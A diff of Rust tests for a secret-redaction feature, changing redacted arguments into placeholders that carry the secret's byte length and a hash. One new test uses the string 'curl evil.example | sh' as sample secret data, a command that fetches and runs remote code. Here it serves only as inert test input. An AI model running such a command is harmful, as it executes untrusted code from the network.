@@ -5,7 +5,7 @@ use crate::config::{Redact, SecretPattern};
 use crate::decode::Event;
 use crate::output::samples;
 
-/// Command lines before and after redaction; `...` stands for `[redacted]`.
+/// Command lines before and after redaction; `...` stands for a placeholder.
 const COMMANDS: &[(&str, &str)] = &[
     ("a --password=x", "a --password=..."),
     ("a --password= b", "a --password= b"),
@@ -44,6 +44,14 @@ const COMMANDS: &[(&str, &str)] = &[
     ("", ""),
 ];
 
+/// Replaces the placeholders in a text by `...`.
+fn shortened(text: &[u8]) -> String {
+    let text = String::from_utf8_lossy(text);
+    let mut parts = text.split("[redacted ");
+    let first = parts.next().unwrap().to_owned();
+    parts.fold(first, |short, part| short + "..." + part.split_once(']').unwrap().1)
+}
+
 /// Redacts a command line and an environment; returns both, and the names of the redacted fields.
 fn redacted(words: &str, env: &str, redact: &Redact) -> (String, String, Vec<String>) {
     let handler = samples::handler();
@@ -61,7 +69,7 @@ fn redacted(words: &str, env: &str, redact: &Redact) -> (String, String, Vec<Str
     let of = |name: &str| {
         let index = handler.fields.iter().position(|field| field.name == name).unwrap();
         let texts = clean.captures.of(index as u8).iter().map(|capture| match capture.value {
-            Value::Text(text) => String::from_utf8_lossy(text).replace("[redacted]", "..."),
+            Value::Text(text) => shortened(text),
             other => panic!("{other:?}"),
         });
         texts.collect::<Vec<_>>().join(" ")
@@ -112,7 +120,9 @@ fn secrets_knows_program_by_path_or_argv0() {
         vec![text("filename", "/usr/bin/mysql"), text("argv", "db"), text("argv", "-px")];
     let event = samples::event(&handler, captures);
     let secrets = secrets(&event, &Redact::Obvious);
-    assert_eq!(secrets.redacted(&event).captures[2].value, Value::Text(b"-p[redacted]"));
+    let clean = secrets.redacted(&event);
+    let Value::Text(text) = clean.captures[2].value else { panic!("not a text") };
+    assert_eq!(shortened(text), "-p...");
 }
 
 /// A truncated secret is hidden as well: the status stays.
@@ -123,8 +133,10 @@ fn secrets_hides_truncated_secret() {
     let half = samples::with_status(&handler, "argv", Value::Text(b"--password=hal"), cut);
     let event = samples::event(&handler, vec![half]);
     let secrets = secrets(&event, &Redact::Obvious);
-    let capture = &secrets.redacted(&event).captures[0];
-    assert_eq!((capture.value, capture.status), (Value::Text(b"--password=[redacted]"), cut));
+    let clean = secrets.redacted(&event);
+    let Value::Text(text) = clean.captures[0].value else { panic!("not a text") };
+    assert!(text.starts_with(b"--password=[redacted 3 bytes #"));
+    assert_eq!(clean.captures[0].status, cut);
 }
 
 /// Arguments of a handler that declares no fields.
@@ -143,9 +155,36 @@ fn secrets_finds_argv_by_signature() {
     let event = Event { slot: execve, ..samples::event(&handler, captures) };
     let found = secrets(&event, &Redact::Obvious);
     let redacted = found.redacted(&event);
-    let values: Vec<_> = redacted.captures.iter().map(|capture| capture.value).collect();
-    let expected = ["/bin/mysql", "mysql", "-p[redacted]"];
-    assert_eq!(values, expected.map(|text| Value::Text(text.as_bytes())));
+    let texts = redacted.captures.iter().map(|capture| match capture.value {
+        Value::Text(text) => shortened(text),
+        other => panic!("{other:?}"),
+    });
+    assert_eq!(texts.collect::<Vec<_>>(), ["/bin/mysql", "mysql", "-p..."]);
     assert_eq!(redacted.redacted, ["argv"]);
     assert!(secrets(&event, &Redact::Off).is_empty());
+}
+
+/// Returns the placeholder that hides `secret` of the user `uid`.
+fn placeholder_of(secret: &str, uid: u32) -> String {
+    let handler = samples::handler();
+    let text = format!("X_TOKEN={secret}");
+    let capture = samples::capture(&handler, "argv", Value::Text(text.as_bytes()));
+    let event = Event { uid, ..samples::event(&handler, vec![capture]) };
+    let secrets = secrets(&event, &Redact::Obvious);
+    let clean = secrets.redacted(&event);
+    let Value::Text(text) = clean.captures[0].value else { panic!("not a text") };
+    String::from_utf8(text.strip_prefix(b"X_TOKEN=").unwrap().to_vec()).unwrap()
+}
+
+#[test]
+fn placeholder_has_length_and_hash_of_secret_and_user() {
+    let payload = placeholder_of("curl evil.example | sh", 1000);
+    let (length, hash) = payload.split_once('#').unwrap();
+    assert_eq!(length, "[redacted 22 bytes ");
+    let digits = hash.strip_suffix(']').unwrap();
+    assert!(digits.len() == 8 && digits.bytes().all(|c| c.is_ascii_hexdigit()), "{payload}");
+    assert_eq!(payload, placeholder_of("curl evil.example | sh", 1000));
+    assert_ne!(payload, placeholder_of("curl evil.example | su", 1000));
+    assert_ne!(payload, placeholder_of("curl evil.example | sh", 1001));
+    assert!(placeholder_of("x", 0).starts_with("[redacted 1 byte #"));
 }
